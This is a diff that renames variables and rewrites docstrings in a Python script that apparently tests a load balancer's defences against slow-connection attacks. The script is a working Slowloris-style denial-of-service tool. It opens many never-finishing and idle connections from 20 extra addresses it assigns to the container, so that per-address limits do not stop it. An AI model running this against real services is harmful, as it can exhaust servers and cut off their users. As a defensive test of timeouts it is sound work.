@@ -1,11 +1,11 @@
-"""Attackers of the edge, for a container in its network, which has Python and nothing else.
+"""Attacks the load balancer, from a container in its network. Needs Python only.
 
     python attack.py HOST SLOW IDLE
 
-Opens SLOW connections that send 30 KB of headers, then a byte at a time, and never end, and IDLE
-connections that send nothing, from 20 addresses, as limits for one address would end this too
-soon. Prints "open" when all are there; then, as JSON, how many were still there when a line was
-typed, how many were cut off, and how long the last one lasted.
+Opens SLOW connections, which send 30 KB of headers, then a byte each second, and never end, and
+IDLE connections, which send nothing. They have 20 addresses: the limits for one address would end
+the attack too soon. Prints "open" when all are open. Prints, as JSON, how many were still open when
+a line was typed, how many the server closed, and how many seconds the last one stayed open.
 """
 
 import contextlib
@@ -23,22 +23,22 @@ assert sys.platform == "linux"  # a container is: mypy checks this file for that
 
 PORT = 8080
 ADDRESSES = 20
-PATIENCE_SECONDS = 90
+DEADLINE_SECONDS = 90
 BEGINNING = b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"x" * 30_000
 
 GET_ADDRESS, SET_ADDRESS, GET_NETMASK, SET_NETMASK = 0x8915, 0x8916, 0x891B, 0x891C
 
 
 def interface(request: int, name: str, address: str = "0.0.0.0") -> str:
-    """Ask for, or set, an address or netmask of an interface (netdevice(7))."""
+    """Read or set an address or netmask of an interface: see netdevice(7)."""
     packed = struct.pack("16sH2x4s8x", name.encode(), socket.AF_INET, socket.inet_aton(address))
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
-        answer = fcntl.ioctl(any_socket, request, packed)
-    return socket.inet_ntoa(answer[20:24])
+        reply = fcntl.ioctl(any_socket, request, packed)
+    return socket.inet_ntoa(reply[20:24])
 
 
-def more_addresses() -> list[str]:
-    """Give this container more addresses, from the end of its network."""
+def add_addresses() -> list[str]:
+    """Add addresses from the end of its network to this container."""
     own, netmask = interface(GET_ADDRESS, "eth0"), interface(GET_NETMASK, "eth0")
     network = ipaddress.ip_network(f"{own}/{netmask}", strict=False)
     addresses = [str(network.broadcast_address - 1 - i) for i in range(ADDRESSES)]
@@ -48,21 +48,21 @@ def more_addresses() -> list[str]:
     return addresses
 
 
-def connect(host: str, sources: list[str], number: int, words: bytes) -> list[socket.socket]:
-    """Open connections, from each of our addresses in turn, and say something by each."""
+def connect(host: str, sources: list[str], number: int, data: bytes) -> list[socket.socket]:
+    """Open connections, from each of our addresses in turn, and send data on each."""
     connections = []
     for i in range(number):
         source = (sources[i % len(sources)], 0)
         connections.append(socket.create_connection((host, PORT), 10, source))
-        connections[-1].sendall(words)
+        connections[-1].sendall(data)
         connections[-1].setblocking(False)
     return connections
 
 
 def main() -> None:
-    """Attack, and report."""
+    """Attack, and print the report."""
     host, slow, idle = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
-    sources = more_addresses()
+    sources = add_addresses()
     started = time.monotonic()
     slow_ones = connect(host, sources, slow, BEGINNING)
     alive = selectors.DefaultSelector()
@@ -71,16 +71,16 @@ def main() -> None:
     alive.register(sys.stdin, selectors.EVENT_READ)
     print("open", flush=True)
 
-    cut, still_there = 0, None
-    while alive.get_map() and time.monotonic() < started + PATIENCE_SECONDS:
+    closed, still_open = 0, None
+    while alive.get_map() and time.monotonic() < started + DEADLINE_SECONDS:
         for attacker in slow_ones:
-            with contextlib.suppress(OSError):  # the selector finds out as well
+            with contextlib.suppress(OSError):  # the selector reports a closed connection
                 attacker.send(b"x")
         next_byte = time.monotonic() + 1
         while (wait_seconds := next_byte - time.monotonic()) > 0 and alive.get_map():
             for key, _ in alive.select(wait_seconds):
                 if key.fd == sys.stdin.fileno():
-                    still_there = slow + idle - cut
+                    still_open = slow + idle - closed
                     alive.unregister(sys.stdin)
                     continue
                 attacker = cast(socket.socket, key.fileobj)
@@ -89,9 +89,9 @@ def main() -> None:
                         continue
                 alive.unregister(attacker)
                 attacker.close()
-                cut += 1
+                closed += 1
     seconds = round(time.monotonic() - started, 1)
-    print(json.dumps({"still_there": still_there, "cut": cut, "longest_seconds": seconds}))
+    print(json.dumps({"still_open": still_open, "closed": closed, "longest_seconds": seconds}))
 
 
 main()
